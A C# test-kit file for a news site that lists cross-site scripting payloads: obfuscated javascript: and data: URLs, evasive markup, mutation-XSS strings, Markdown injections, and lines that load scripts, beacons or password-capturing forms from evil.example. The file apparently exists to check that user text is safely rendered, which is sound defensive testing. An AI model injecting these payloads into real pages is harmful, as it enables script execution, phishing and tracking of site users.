namespace NewsSite.TestKit;

/// <summary>What attackers write into fields, for every place where someone else's words are shown (P1, P2, P4).</summary>
public static class Payloads
{
    /// <summary>Addresses that must never become a link.</summary>
    public static IReadOnlyList<string> Addresses { get; } =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\u0001javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
        "java\rscript:alert(1)", "java\0script:alert(1)", "javascript\t:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)",
        "javascript&#0000058alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61&#x76&#x61script:alert(1)", "jav&#x09;ascript:alert(1)", "jav&Tab;ascript:alert(1)",
        "jav&NewLine;ascript:alert(1)", "&#1;javascript:alert(1)", "&#32;javascript:alert(1)", "&nbsp;javascript:alert(1)", "\u200bjavascript:alert(1)",
        "\u00a0javascript:alert(1)", "\u202ejavascript:alert(1)", "\ufeffjavascript:alert(1)", "javascript://%0aalert(1)", "javascript://paper.example/%0aalert(1)",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", "javascript%3aalert(1)",
        "%6aavascript:alert(1)", "java%0ascript:alert(1)", "\\x6Aavascript:alert(1)", "\\javascript:alert(1)", "javascript\\:alert(1)", "ｊavascript:alert(1)",
        "vbscript:msgbox(1)", "VbScript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=alert(1)>", "data:,x", "data:text/javascript,alert(1)",
        "file:///etc/passwd", "blob:https://paper.example/1", "filesystem:https://paper.example/x", "view-source:https://paper.example/", "about:blank", "ws://evil.example",
        "ftp://evil.example", "tel:+93700000000", "sms:+93700000000", "intent://x#Intent;end", "ms-settings:", "steam://run/1", "magnet:?x", "jar:https://evil.example!/", "feed:javascript:alert(1)",
        "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example", "/\t/evil.example", "/\n/evil.example", "\t//evil.example", "&#47;&#47;evil.example", "/&#92;evil.example",
        "&sol;&sol;evil.example", "/&Tab;/evil.example", "%2f/evil.example:x", "x:y", "-:x", "a.b+c:d", "1javascript:alert(1)", "javascript:", ":", ":javascript:alert(1)",
    ];

    /// <summary>Markup that would run, overlay, phish, call home or break out, raw and in pieces.</summary>
    public static IReadOnlyList<string> Markup { get; } =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img src=`x`onerror=alert(1)>", "<img src=//evil.example/beacon>", "<img srcset=//evil.example/b>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#x></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<math href=javascript:alert(1)>x</math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<title><a title=\"</title><img src=x onerror=alert(1)>\">", "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">", "<xmp><a title=\"</xmp><img src=x onerror=alert(1)>\">", "<iframe><a title=\"</iframe><img src=x onerror=alert(1)>\">",
        "<noembed><img src=x onerror=alert(1)></noembed>", "<plaintext><img src=x onerror=alert(1)>", "<template><img src=x onerror=alert(1)></template>", "<select><style></select><img src=x onerror=alert(1)></style>", "<listing>&lt;img src=1 onerror=alert(1)></listing>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<frameset onload=alert(1)>", "<portal src=//evil.example>",
        "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta charset=utf-7>", "<style>body{display:none}</style>", "<style>@import '//evil.example/x.css';</style>",
        "<body onload=alert(1)>", "<html manifest=//evil.example>", "<head><base href=//evil.example>", "<video src=x onerror=alert(1)></video>", "<video poster=//evil.example/b></video>", "<audio src=//evil.example onerror=alert(1)>", "<source srcset=//evil.example/b>", "<picture><source srcset=//evil.example/b><img></picture>",
        "<details open ontoggle=alert(1)>x</details>", "<dialog open>You are signed out</dialog>", "<marquee onstart=alert(1)>x</marquee>", "<blink>x</blink>", "<input autofocus onfocus=alert(1)>", "<input type=password name=password>", "<button formaction=javascript:alert(1)>x</button>", "<button popovertarget=x>x</button>",
        "<form action=//evil.example><input name=password></form>", "<form id=comment-form><input name=x form=comment-form>", "<select onchange=alert(1)><option>1</select>", "<textarea onfocus=alert(1) autofocus>", "<keygen onfocus=alert(1)>", "<isindex action=javascript:alert(1) type=submit>",
        "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href=\"java&#10;script:alert(1)\">x</a>", "<a href=//evil.example target=_blank>x</a>", "<a href=https://evil.example ping=//evil.example/p>x</a>", "<a name=location href=#>x</a>", "<a id=__proto__>x</a>", "<a id=document>x</a>", "<a download href=/x>x</a>",
        "<div style=position:fixed;inset:0;background:white>Sign in again</div>", "<p style='background:url(//evil.example/b)'>x</p>", "<p class=admin>x</p>", "<p id=comments>x</p>", "<p id=comment-1>x</p>", "<p onclick=alert(1)>x</p>", "<p onmouseover='alert(1)'>x</p>", "<p contenteditable>x</p>", "<p popover id=x>x</p>", "<p tabindex=1 accesskey=x>x</p>", "<p dir=rtl lang=x>x</p>", "<slot name=x>", "<x-element onclick=alert(1)>x</x-element>", "<a is=x-y>x</a>",
        "<table background=javascript:alert(1)>", "<td background=//evil.example/b>", "<img usemap=#m><map name=m><area href=javascript:alert(1)></map>", "<bgsound src=//evil.example>", "<layer src=//evil.example>", "<xml src=//evil.example>", "<xss style=behavior:url(x.htc)>", "<div style=width:expression(alert(1))>x</div>",
        "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=alert(1) `", "x\" style=\"position:fixed", "x\" id=\"comments\" class=\"admin", "x\" data-media=\"ffffffffffffffff", "x\"> <img data-media=\"ffffffffffffffff\" alt=\"x", "&quot; onclick=&quot;alert(1)", "&#34;&#62;<svg onload=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "x\" src=\"x\" onerror=\"alert(1)",
        "</p><script>alert(1)</script>", "</a></li></ol></div></article><form>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<!DOCTYPE html><script>alert(1)</script>", "]]><script>alert(1)</script>", "<%= alert(1) %>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "@Html.Raw(\"<b>\")",
        "<<script>alert(1)//<</script>", "<script>alert(1)", "<img src=x onerror=alert(1)", "<a href=\"javascript:alert(1)", "<\0script>alert(1)</script>", "<scr\0ipt>alert(1)</script>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "\u2028<script>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "<K onclick=alert(1)>",
        "![x](javascript:alert(1))", "[x](javascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x][y]\n\n[y]: javascript:alert(1)", "<javascript:alert(1)>", "<data:text/html,x>", "<vbscript:x>", "![x](//evil.example/beacon)", "![\"onerror=\"alert(1)](x)", "[x](https://evil.example \"\" onmouseover=\"alert(1)\")", "[x](a'onclick='alert(1))", "[x](\"onclick=alert(1))", "[a](b){onclick=alert(1)}", "# x {#comments .admin}", "[^x]: <script>alert(1)</script>\n\n[^x]", "|<script>|\n|-|\n|alert(1)|", "```<script>\nalert(1)\n```", "{: onclick=alert(1)}",
    ];

    public static IEnumerable<string> All => Addresses.Concat(Markup);
}
